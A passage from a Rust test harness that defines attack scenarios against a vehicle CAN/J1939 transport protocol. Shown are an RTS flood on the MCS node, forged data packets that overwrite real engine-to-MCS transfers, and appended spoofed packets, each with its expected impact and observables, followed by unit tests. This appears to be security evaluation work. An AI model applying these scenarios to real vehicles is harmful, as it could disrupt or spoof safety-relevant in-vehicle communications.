            program: AttackProgram::RtsFlood {
                target: MCS_SA,
                announce_bytes: 1785,
                initial_burst: 3,
                period_us: 300_000,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 30_000,
                recovery_ms: 15_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: FrameMatcher {
                        sa: Some(MCS_SA),
                        any_tp: true,
                        ..FrameMatcher::default()
                    },
                    onset_ms: 500,
                },
                Observable::ResumesAfterAttack {
                    matcher: FrameMatcher {
                        sa: Some(MCS_SA),
                        any_tp: true,
                        ..FrameMatcher::default()
                    },
                    within_ms: 6_600,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 13,
            name: "Data overwrite".into(),
            summary: "Inject forged data packets just ahead of the real ones so the first \
                      arrival wins"
                .into(),
            program: AttackProgram::DtOverwrite {
                originator: ENGINE_SA,
                responder: MCS_SA,
                replace_last_two: false,
            },
            phases: Phases {
                warmup_ms: 65_000,
                attack_ms: 70_000,
                recovery_ms: 5_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::OverwriteOutcome {
                    originator: ENGINE_SA,
                    responder: MCS_SA,
                    replace_last_two: false,
                },
                Observable::InjectedAtMost { max: 2 },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 14,
            name: "Data spoofing past the end".into(),
            summary: "Append extra data packets after the announced last one".into(),
            program: AttackProgram::DtAppend {
                originator: ENGINE_SA,
                responder: MCS_SA,
                extra_seqs: vec![4],
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 5_000,
            },
            expected: Impact::NoImpact,
            observables: vec![Observable::EquivalentToBaseline, util_cap],
        },
    ]
}

/// Expected per-scenario verdicts.
pub fn expected_matrix() -> Vec<(u8, Impact)> {
    catalog().iter().map(|s| (s.id, s.expected)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_has_fourteen_entries_in_order() {
        let cat = catalog();
        assert_eq!(cat.len(), 14);
        for (i, spec) in cat.iter().enumerate() {
            assert_eq!(spec.id as usize, i + 1);
        }
    }

    #[test]
    fn expected_verdicts_match_the_summary_table() {
        let no_impact: Vec<u8> = catalog()
            .iter()
            .filter(|s| s.expected == Impact::NoImpact)
            .map(|s| s.id)
            .collect();
        assert_eq!(no_impact, vec![2, 8, 14]);
        let impact = catalog()
            .iter()
            .filter(|s| s.expected == Impact::Impact)
            .count();
        assert_eq!(impact, 11);
    }

    #[test]
    fn scenario_specs_round_trip_through_toml() {
        let cat = catalog();
        let cfg = crate::config::HarnessConfig {
            testbed: None,
            scenarios: cat.clone(),
        };
        let text = cfg.to_toml().unwrap();
        let parsed = crate::config::HarnessConfig::from_toml(&text).unwrap();
        assert_eq!(parsed.scenarios, cat);
    }

    #[test]
    fn scenario_six_injects_the_skip_ahead_grant() {
        let cat = catalog();
        match &cat[5].program {
            AttackProgram::CtsOverride {
                packets_to_send,
                next_packet,
                ..
            } => {
                assert_eq!((*packets_to_send, *next_packet), (3, 5));
            }
            other => panic!("unexpected program {other:?}"),
        }
    }

    #[test]
    fn forged_row_payload() {
        assert_eq!(SPOOF_DT_PAYLOAD, [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x00]);
    }

    #[test]
    fn matcher_pair_is_direction_agnostic() {
        let m = FrameMatcher {
            between: Some((0, 249)),
            ..FrameMatcher::default()
        };
        let fwd = CanFrame::new(FrameId::new(7, 0, 0, 0xEC, 249, 0), vec![0; 8]).unwrap();
        let rev = CanFrame::new(FrameId::new(7, 0, 0, 0xEC, 0, 249), vec![0; 8]).unwrap();
        let other = CanFrame::new(FrameId::new(7, 0, 0, 0xEC, 23, 0), vec![0; 8]).unwrap();
        assert!(m.matches(&fwd));
        assert!(m.matches(&rev));
        assert!(!m.matches(&other));
    }
}
